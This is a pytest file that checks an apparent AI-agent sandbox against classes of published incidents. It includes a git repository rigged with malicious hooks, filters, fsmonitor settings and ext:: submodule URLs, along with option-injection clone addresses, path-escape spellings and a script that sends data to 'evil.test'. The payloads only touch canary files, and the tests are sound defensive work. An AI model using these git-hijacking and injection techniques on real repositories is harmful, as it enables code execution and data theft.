"""Incidents of other products, one test for each class of them, against our sandbox."""

import shlex
import shutil
import subprocess
import sys
import unicodedata
from types import SimpleNamespace
from typing import Any, cast

import pytest
from tests.sandbox.conftest import GIT_ENVIRONMENT, KINDS, Repository
from tests.web_access.upstream import Upstream, serving

from callboard.domain.errors import CallboardError, ConfigurationInvalid
from callboard.engine.command_hosts import read_command_hosts
from callboard.ports.workspace import CommandRequest, FileRefused, Publication
from callboard.sandbox.git.process import GitFailed
from callboard.sandbox.workspaces import open_workspaces
from callboard.testing.workspace.commands import sh
from callboard.tools.run_terminal_command.tool import RunTerminalCommand, run_terminal_command
from callboard.web_access.egress.command_way import CommandWayOut

pytestmark = pytest.mark.anyio

CANARY = "callboard-incident-canary"


@pytest.fixture
def ran(tmp_path):
    """The file that hostile code makes when somebody runs it."""
    return tmp_path / "RAN"


@pytest.fixture
def repository(tmp_path):
    made = Repository(tmp_path / "repository")
    made.commit({"a.txt": "one\n"})
    return made


@pytest.fixture
def host(tmp_path):
    pythons = (sys.prefix, sys.base_prefix)
    return open_workspaces(tmp_path / "state", read_only=pythons, kinds=("landlock",))


def plant(repository, ran):
    """Make a repository that runs code for whoever lets it: hooks, monitors, filters, helpers, submodules."""
    git, touch = repository.place / ".git", f"touch {shlex.quote(str(ran))}"
    script = git / "evil"
    script.write_text(f"#!/bin/sh\n{touch}\nexit 0\n")
    script.chmod(0o755)
    for name in (
        "post-checkout",
        "post-commit",
        "pre-commit",
        "reference-transaction",
        "post-index-change",
    ):
        (git / "hooks").mkdir(exist_ok=True)
        (git / "hooks" / name).write_text(f"#!/bin/sh\n{touch}\n")
        (git / "hooks" / name).chmod(0o755)
    settings = {
        "core.fsmonitor": str(script),
        "core.hooksPath": str(git / "hooks"),
        "core.sshCommand": str(script),
        "core.alternateRefsCommand": str(script),
        "core.askPass": str(script),
        "core.pager": str(script),
        "filter.evil.clean": str(script),
        "filter.evil.smudge": str(script),
        "filter.evil.process": str(script),
        "diff.external": str(script),
        "gpg.program": str(script),
        "commit.gpgSign": "true",
        "credential.helper": f"!{touch}",
        "submodule.recurse": "true",
        "protocol.ext.allow": "always",
        "uploadpack.packObjectsHook": str(script),
    }
    for name, value in settings.items():
        subprocess.run(
            ["git", "config", name, value], cwd=repository.place, env=GIT_ENVIRONMENT, check=True
        )
    (git / "info").mkdir(exist_ok=True)
    (git / "info" / "attributes").write_text("* filter=evil diff=evil\n")
    (repository.place / ".gitattributes").write_text("* filter=evil\n")
    url = f"ext::sh -c {touch}"
    (repository.place / ".gitmodules").write_text(
        f'[submodule "m"]\n\tpath = m\n\turl = {url}\n\tupdate = !{touch}\n'
    )


def look_as_anybody_would(repository):
    subprocess.run(
        ["git", "status"],
        cwd=repository.place,
        env=GIT_ENVIRONMENT,
        capture_output=True,
        check=False,
    )


async def everything_the_host_does(workspaces, repository, destination):
    commit = await workspaces.head(str(repository.place))
    await workspaces.clone(str(repository.place), commit, str(destination))
    for root in (repository.place, destination):
        opened = await workspaces.open(str(root))
        first = await opened.snapshots.record(None)
        (root / "a.txt").write_text("two\n")
        second = await opened.snapshots.record(first.tree)
        await opened.snapshots.restore(first.tree)
        await opened.close()
    change = Publication(
        workspace=str(destination),
        repository=str(repository.place),
        base_commit=commit,
        tree=second.tree,
        branch="agent/task",
        message="Task\n",
        author="Ann <ann@example.org>",
    )
    await workspaces.publish(change)


async def test_n8n_cve_2026_21877_no_repository_makes_the_host_run_its_code(
    host, repository, ran, tmp_path
):
    plant(repository, ran)
    await everything_the_host_does(host, repository, tmp_path / "copies" / "one")
    assert not ran.exists()
    look_as_anybody_would(repository)
    assert ran.exists()  # the bait is alive


@pytest.mark.parametrize(
    "address",
    [
        "ext::sh -c 'touch {ran}'",
        "--upload-pack=touch {ran}",
        "-u touch {ran}",
        "file:///{ran}",
        "a@b:c",
    ],
)
async def test_n8n_cve_2026_21877_addresses_and_options_are_no_repositories(
    host, ran, tmp_path, address
):
    with pytest.raises((ConfigurationInvalid, GitFailed)):
        await host.clone(address.format(ran=ran), "HEAD", str(tmp_path / "copies" / "one"))
    assert not ran.exists()


@pytest.mark.parametrize("commit", ["--output={ran}", "--upload-pack=touch {ran}", "-h", "HEAD --"])
async def test_n8n_cve_2026_21877_a_commit_is_never_an_option(
    host, repository, ran, tmp_path, commit
):
    with pytest.raises((CallboardError, GitFailed)):
        await host.clone(str(repository.place), commit.format(ran=ran), str(tmp_path / "copies"))
    assert not ran.exists()


async def test_n8n_cve_2026_21877_a_git_file_leads_to_nobodys_configuration(
    host, repository, ran, tmp_path
):
    plant(repository, ran)
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    (workspace / ".git").write_text(f"gitdir: {repository.place / '.git'}\n")
    (workspace / "b.txt").write_text("text\n")
    opened = await host.open(str(workspace))
    assert (await opened.snapshots.record(None)).tree
    await opened.close()
    assert not ran.exists()


CONTROL = (
    *("config", "config.worktree", "commondir", "hooks/pre-commit", "hooks/post-checkout"),
    *(
        "info/attributes",
        "info/sparse-checkout",
        "modules/m/config",
        "modules/m/hooks/post-checkout",
    ),
)


@pytest.mark.parametrize("there", [True, False], ids=["there at start", "not there at start"])
@pytest.mark.parametrize("kind", KINDS)
async def test_claude_code_cve_2026_25725_control_files_are_protected_whether_or_not_they_exist(
    kind, there, repository, ran, tmp_path
):
    git = repository.place / ".git"
    if there:
        for name in CONTROL[2:]:
            if name == "commondir":
                continue
            (git / name).parent.mkdir(parents=True, exist_ok=True)
            (git / name).write_text("")
    else:
        shutil.rmtree(git / "hooks")
        shutil.rmtree(git / "info")
    before = {name: _content(git / name) for name in CONTROL}
    workspaces = open_workspaces(tmp_path / "state", kinds=(kind,))
    opened = await workspaces.open(str(repository.place))
    evil = f"[core]\\n\\tfsmonitor = touch {ran}\\n"
    attack = "; ".join(
        f"mkdir -p .git/{name.rpartition('/')[0]}; printf '{evil}' > .git/{name}; chmod +x .git/{name}"
        for name in CONTROL
    )
    await sh(opened.commands, attack)
    await sh(
        opened.commands, "git config core.fsmonitor evil; mv .git/hooks .git/h; mkdir .git/hooks"
    )
    await opened.close()
    assert {name: _content(git / name) for name in CONTROL} == before
    again = await workspaces.open(str(repository.place))
    await again.snapshots.record(None)
    repository.git("status")
    await again.close()
    assert not ran.exists()


def _content(path):
    return path.read_bytes() if path.is_file() else None


@pytest.mark.parametrize(
    "spelling",
    [
        *(
            "link",
            "link/",
            "hard",
            "../outside/secret",
            "sub/../../outside/secret",
            "/proc/self/root{secret}",
        ),
        *(
            "/proc/self/cwd/../outside/secret",
            "{secret}",
            "dir/secret",
            "./link",
            "LINK",
            "{decomposed}",
        ),
    ],
)
@pytest.mark.parametrize("kind", KINDS)
async def test_claude_code_cve_2026_25724_no_spelling_of_a_path_leads_outside(
    kind, spelling, tmp_path
):
    root, outside = tmp_path / "root", tmp_path / "outside"
    root.mkdir()
    outside.mkdir()
    secret = outside / "secret"
    secret.write_text(CANARY)
    (root / "link").symlink_to(secret)
    (root / "dir").symlink_to(outside)
    (root / "caf\u00e9").symlink_to(secret)
    decomposed = unicodedata.normalize("NFD", "caf\u00e9")
    name = spelling.format(secret=secret, decomposed=decomposed)
    opened = await open_workspaces(tmp_path / "state", kinds=(kind,)).open(str(root))
    with pytest.raises(FileRefused):
        opened.files.read(name, max_bytes=1000)
    quoted = shlex.quote(name)
    result = await sh(opened.commands, f"ln {secret} hard; cat {quoted}; echo x >> {quoted}")
    assert CANARY not in result.stdout
    assert secret.read_text() == CANARY
    await opened.close()


async def test_crewai_cve_2026_2275_without_a_sandbox_the_tool_fails_by_name_and_runs_nothing(
    tmp_path,
):
    root = tmp_path / "root"
    root.mkdir()
    workspace = await open_workspaces(tmp_path / "state", kinds=()).open(str(root))
    for kind in ("SYNC", "BACKGROUND"):
        arguments = RunTerminalCommand(command="touch ran", process_type=kind)
        outcome = await run_terminal_command(
            arguments, cast("Any", SimpleNamespace(workspace=workspace))
        )
        assert "sandbox_unavailable" in repr(outcome)
    await workspace.close()
    assert not (root / "ran").exists()


async def test_claude_code_cve_2026_46406_temporary_places_are_private_and_cannot_be_foretold(
    host, tmp_path
):
    root = tmp_path / "root"
    root.mkdir()
    places, names = set(), set()
    for _ in range(3):
        opened = await host.open(str(root))
        shown = await sh(opened.commands, 'echo "$TMPDIR"; stat -c %a "$TMPDIR" "$HOME"')
        place, *modes = shown.stdout.split()
        assert modes == ["700", "700"]
        places.add(place)
        names.add(await opened.commands.start(CommandRequest("true")))
        await opened.close()
    assert len(places) == len(names) == 3
    assert all(place.startswith(str(tmp_path / "state")) for place in places)
    assert {(tmp_path / "state").stat().st_mode & 0o777} == {0o700}


SENDS_A_COPY = """
import socket, sys
mail = b"POST http://{place}/ HTTP/1.1\\r\\nContent-Length: 4\\r\\n\\r\\nmail"
for way in (("127.0.0.1", 3128), ("127.0.0.1", {port})):
    for place in ("hub.test:{listed}", "evil.test:{port}", "127.0.0.1:{port}"):
        try:
            with socket.create_connection(way, 20) as out:
                out.sendall(mail.replace(b"{place}", place.encode()))
                print(place, out.recv(100).split()[1].decode())
        except OSError:
            pass
"""


@pytest.mark.parametrize("kind", KINDS)
async def test_postmark_mcp_1_0_16_a_package_that_turns_hostile_sends_nothing_to_hosts_that_are_not_listed(
    tmp_path, kind
):
    root = tmp_path / "workspace"
    root.mkdir()

    async def here(host, port):
        return ("127.0.0.1",)

    async with serving(Upstream()) as hub, serving(Upstream()) as evil:
        hosts = read_command_hosts(f"hub.test:{hub.port},127.0.0.1:{hub.port}")
        way_out = CommandWayOut(hosts, resolve=here)
        script = SENDS_A_COPY.replace("{listed}", str(hub.port)).replace("{port}", str(evil.port))
        (root / "package.py").write_text(script)
        pythons = (sys.prefix, sys.base_prefix)
        workspaces = open_workspaces(
            tmp_path / "state", read_only=pythons, kinds=(kind,), way_out=way_out
        )
        opened = await workspaces.open(str(root))
        result = await sh(opened.commands, "python package.py")
        await opened.close()
        assert evil.received == []
        assert len(hub.received) == (1 if kind == "bubblewrap" else 0)
    if kind == "bubblewrap":
        for place in (f"evil.test:{evil.port}", f"127.0.0.1:{evil.port}"):
            assert f"[network: refused {place}" in result.stderr
